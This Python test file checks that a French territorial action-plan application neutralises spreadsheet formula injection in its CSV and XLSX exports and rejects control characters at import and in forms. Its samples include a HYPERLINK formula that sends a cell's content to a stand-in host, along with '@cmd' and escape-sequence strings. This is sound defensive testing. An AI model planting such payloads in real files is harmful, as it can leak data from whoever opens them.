"""Exports safe to open (issue 13, items 2 and 3; issue 23): formulas made inert in CSV (a quote)
and XLSX (text-typed cells, no quote shown), exact export → import round trip, control
characters refused at import and in forms alike on SQLite and PostgreSQL, and an already-stored
bad value cannot break an export."""
import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from perr_model import action_list as al
from perr_model.copil import document
from perr_model.auth import Actor
from perr_model.editing import create_action, update_action
from perr_model.errors import ImportRefused, ValidationFailed
from perr_model.exports import funding
from perr_model.exports.safe import import_text, needs_quote, neutralise, restore, xlsx_text
from perr_model.importers import actions as importer
from perr_model.schema import Action, Territory
from perr_model.store import write_session

ROOT = Path(__file__).resolve().parents[1]
SLUG = "paris-est-marne-et-bois"
# Dangerous starts (OWASP), genuine leading quotes, and harmless values
VALUES = ['=HYPERLINK("http://exemple.invalid/?"&A1,"clic")', "+33 1 23", "-moins", "@SUM(A1)",
          "\t=tab", "\r=cr", "'déjà cité'", "'=quote puis formule", "''deux", "'", "a=b",
          "Titre normal"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def test_rule_is_exact_both_ways():
    for v in VALUES + ["", "'-", "''", "'''=x", "x'"]:
        out = neutralise(v)
        assert restore(out) == v, v
        # what a spreadsheet sees never starts with a formula character
        assert not out[:1] or out[0] not in DANGEROUS_START, v
    assert neutralise("'déjà cité'") == "'déjà cité'"      # a genuine quote is left alone
    assert restore("'déjà cité'") == "'déjà cité'"         # … and survives an import
    assert restore("'=x") == "=x" and neutralise("=x") == "'=x"
    assert neutralise(-12.5) == -12.5 and not needs_quote("12")
    # after leading spaces too; the quote goes in front of the spaces
    assert neutralise("  =1+1") == "'  =1+1" and restore("'  =1+1") == "  =1+1"
    assert neutralise(" \tx") == "' \tx" and neutralise("  x") == "  x"
    assert neutralise("' =x") == "'' =x" and restore("' x") == "' x"


# Hand-worked: what a text-typed XLSX cell holds for each value (a quote only before a genuine
# quote the import would take away, or before a leading white space the import would strip;
# XML, hence XLSX, stores a CR as LF)
XLSX_SHOWN = {"\t=tab": "'\t=tab", "\r=cr": "'\n=cr", "'=quote puis formule":
              "''=quote puis formule", "''deux": "'''deux"}


def test_xlsx_text_is_exact_through_the_import():
    for v in VALUES + ["  =x", "'  +1", "+3,0 pts"]:
        assert import_text(xlsx_text(v)) == v, v
    assert import_text(xlsx_text(" x ")) == "x"  # white space no quote keeps is not kept
    assert xlsx_text("+3,0 pts") == "+3,0 pts" and xlsx_text("=1+1") == "=1+1"
    assert xlsx_text("  =x") == "'  =x" and xlsx_text("'abc") == "'abc"
    assert xlsx_text("a\x01b\x7f") == "ab"


def _plant(engine, values):
    """One action per value, titled with it, in the first territory (a real store)."""
    with write_session(engine) as s:
        tid = s.scalar(select(Territory.id).where(Territory.slug == SLUG))
        commune = s.execute(text("select insee_code from commune where territory_id = :t "
                                 "order by insee_code limit 1"), {"t": tid}).scalar()
        for i, v in enumerate(values):
            create_action(s, Actor.system("test"), {
                "reference": f"INJ-{i:02d}", "title": f"T{i}", "description": v,
                "holder_name": v, "target_public": v, "year_start": 2024,
                "communes": [commune]}, territory_id=tid)
        # titles too, past the form's stripping (the stored value is what gets exported)
        for i, v in enumerate(values):
            s.execute(text("update action set title = :v where reference = :r"),
                      {"v": v, "r": f"INJ-{i:02d}"})
    return tid


def _frame(engine, tid):
    with Session(engine) as s:
        f = al.export_frame(s, al.ActionFilter(territory_id=tid))
    return f[f["Référence"].str.startswith("INJ-")].reset_index(drop=True)


def test_csv_and_xlsx_neutralise_and_round_trip(loaded_url, rw_engine):
    engine = rw_engine(loaded_url)
    tid = _plant(engine, VALUES)
    frame = _frame(engine, tid)
    assert len(frame) == len(VALUES)

    raw_csv = al.to_csv_bytes(frame).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw_csv), delimiter=";") for c in row]
    assert not [c for c in cells if c[:1] in DANGEROUS_START], "cellule CSV exécutable"

    wb = load_workbook(io.BytesIO(al.to_xlsx_bytes(frame)))
    ws = wb["Actions"]
    shown = {}
    for row in ws.iter_rows(min_row=2):
        shown[row[0].value] = row[1].value  # reference, titre
        for cell in row:
            if isinstance(cell.value, str):  # text-typed: inert whatever it starts with
                assert (cell.data_type, cell.number_format) == ("s", "@"), cell.value
    assert shown == {f"INJ-{i:02d}": XLSX_SHOWN.get(v, v) for i, v in enumerate(VALUES)}

    for data, name in ((al.to_csv_bytes(frame), "a.csv"), (al.to_xlsx_bytes(frame), "a.xlsx")):
        table = importer.read_table(data, name)
        table = table[table["Référence"].astype(str).str.startswith("INJ-")]
        by_ref = dict(zip(table["Référence"], table["Titre"]))
        # the strings exactly as stored (the quote also keeps a leading tab / CR)
        expected = {f"INJ-{i:02d}": v if name.endswith("csv") else v.replace("\r", "\n")
                    for i, v in enumerate(VALUES)}  # XML (XLSX) stores a CR as LF
        assert {r: (t or "") for r, t in by_ref.items()} == expected, name
        with write_session(engine) as s:
            report = importer.import_actions(s, Actor.system("test"), table,
                                             importer.guess_mapping(list(table.columns)),
                                             territory_id=tid, dry_run=True)
        assert not report.problems, report.lines()


def test_funding_csv_and_copil_xlsx_neutralised(loaded_url, rw_engine):
    engine = rw_engine(loaded_url)
    tid = _plant(engine, ["=titre"])
    with write_session(engine) as s:
        action_id = s.scalar(select(Action.id).where(Action.reference == "INJ-00"))
        update_action(s, Actor.system("test"), action_id, {"funding": [
            {"funder": "commune", "year": 2024, "amount_approved": "100"}]},
            expected_version=None)
    with write_session(engine) as s:
        s.execute(text("update funding_line set holder_name = :v, source = :w"),
                  {"v": "=1+1", "w": "@cmd"})
        s.execute(text("update commitment set text = :v"), {"v": "-2+3 engagement"})
    with Session(engine) as s:
        out = funding.to_csv(funding.funding_lines(s))
        assert "=1+1" in out
        cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
        assert not [c for c in cells if c[:1] in DANGEROUS_START]
        _, xlsx, _ = document.copil_bytes(s, tid, None, None)
    wb = load_workbook(io.BytesIO(xlsx))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.value)
                if isinstance(cell.value, str):
                    assert (cell.data_type, cell.number_format) == ("s", "@"), cell.value
                    seen += cell.value.startswith("-2+3 engagement")  # shown as stored
    assert seen


@pytest.mark.parametrize("value", ["avant\x00après", "cloche\x07", "échap\x1b[31m"])
def test_control_characters_refused_at_import_and_in_forms(loaded_url, rw_engine, value):
    engine = rw_engine(loaded_url)
    with Session(engine) as s:
        tid = s.scalar(select(Territory.id).where(Territory.slug == SLUG))
        commune = s.execute(text("select insee_code from commune where territory_id = :t "
                                 "order by insee_code limit 1"), {"t": tid}).scalar()
    body = ("reference;titre;communes;annee_debut\n"
            f"OK-1;Une action;{commune};2024\nNUL-1;{value};{commune};2024\n"
            f"{value};Référence sale;{commune};2024\n")
    table = importer.read_table(body.encode("utf-8"), "p.csv")
    with pytest.raises(ImportRefused) as info, write_session(engine) as s:
        importer.import_actions(s, Actor.system("test"), table,
                                importer.guess_mapping(list(table.columns)), territory_id=tid)
    lines = "\n".join(info.value.problems)
    assert ("Ligne 3 (NUL-1) refusée : colonne « titre » : caractère de contrôle invisible"
            in lines), lines
    assert "Ligne 4" in lines and "colonne « reference » : caractère de contrôle" in lines, lines
    assert "Erreur" not in lines and "DataError" not in lines and "\x00" not in lines
    with pytest.raises(ValidationFailed) as form, write_session(engine) as s:
        create_action(s, Actor.system("test"), {"title": "x", "description": value,
                                                "year_start": 2024, "communes": [commune]},
                      territory_id=tid)
    assert "Description : caractère invisible interdit" in str(form.value)
    with Session(engine) as s:
        action_id = s.scalar(select(Action.id).where(Action.territory_id == tid).limit(1))
    with pytest.raises(ValidationFailed), write_session(engine) as s:
        update_action(s, Actor.system("test"), action_id, {"holder_name": value},
                      expected_version=None)


def test_a_stored_control_character_does_not_break_the_exports(tmp_path, loaded_url,
                                                               rw_engine):
    engine = rw_engine(loaded_url)
    if engine.dialect.name == "postgresql":  # PostgreSQL cannot store NUL: other controls
        bad = "cloche\x07 et \x1b échappement"
    else:
        bad = "nul\x00 cloche\x07"
    with write_session(engine) as s:
        s.execute(text("update action set title = :v, description = :v"), {"v": bad})
    with Session(engine) as s:
        tid = s.scalar(select(Territory.id).where(Territory.slug == SLUG))
        frame = al.export_frame(s, al.ActionFilter(territory_id=tid))
        _, xlsx, _ = document.copil_bytes(s, tid, None, None)
    wb = load_workbook(io.BytesIO(al.to_xlsx_bytes(frame)))
    assert wb["Actions"]["B2"].value in ("nul cloche", "cloche et  échappement")
    load_workbook(io.BytesIO(xlsx))
    assert "\x07" not in al.to_csv_bytes(frame).decode("utf-8-sig")


def test_cli_export_actions_is_the_pages_file(loaded_url, rw_engine, tmp_path):
    engine = rw_engine(loaded_url)
    tid = _plant(engine, VALUES[:3])
    with Session(engine) as s:
        page_csv = al.to_csv_bytes(al.export_frame(s, al.ActionFilter(territory_id=tid)))
    env = {"DATABASE_URL": loaded_url, "PATH": "/usr/bin:/bin"}
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"a.{fmt}"
        r = subprocess.run([sys.executable, "-m", "perr_model", "export", "actions", "--format",
                            fmt, "--territory", SLUG, "--public", "--out", str(out)],
                           cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        if fmt == "csv":
            assert out.read_bytes() == page_csv
        else:
            table = importer.read_table(out.read_bytes(), "a.xlsx")
            assert VALUES[0] in set(table["Titre"])
    r = subprocess.run([sys.executable, "-m", "perr_model", "export", "actions", "--territory",
                        "nulle-part"], cwd=ROOT, env=env, capture_output=True, text=True,
                       timeout=120)
    assert r.returncode == 1 and "Territoire inconnu : « nulle-part »" in r.stderr
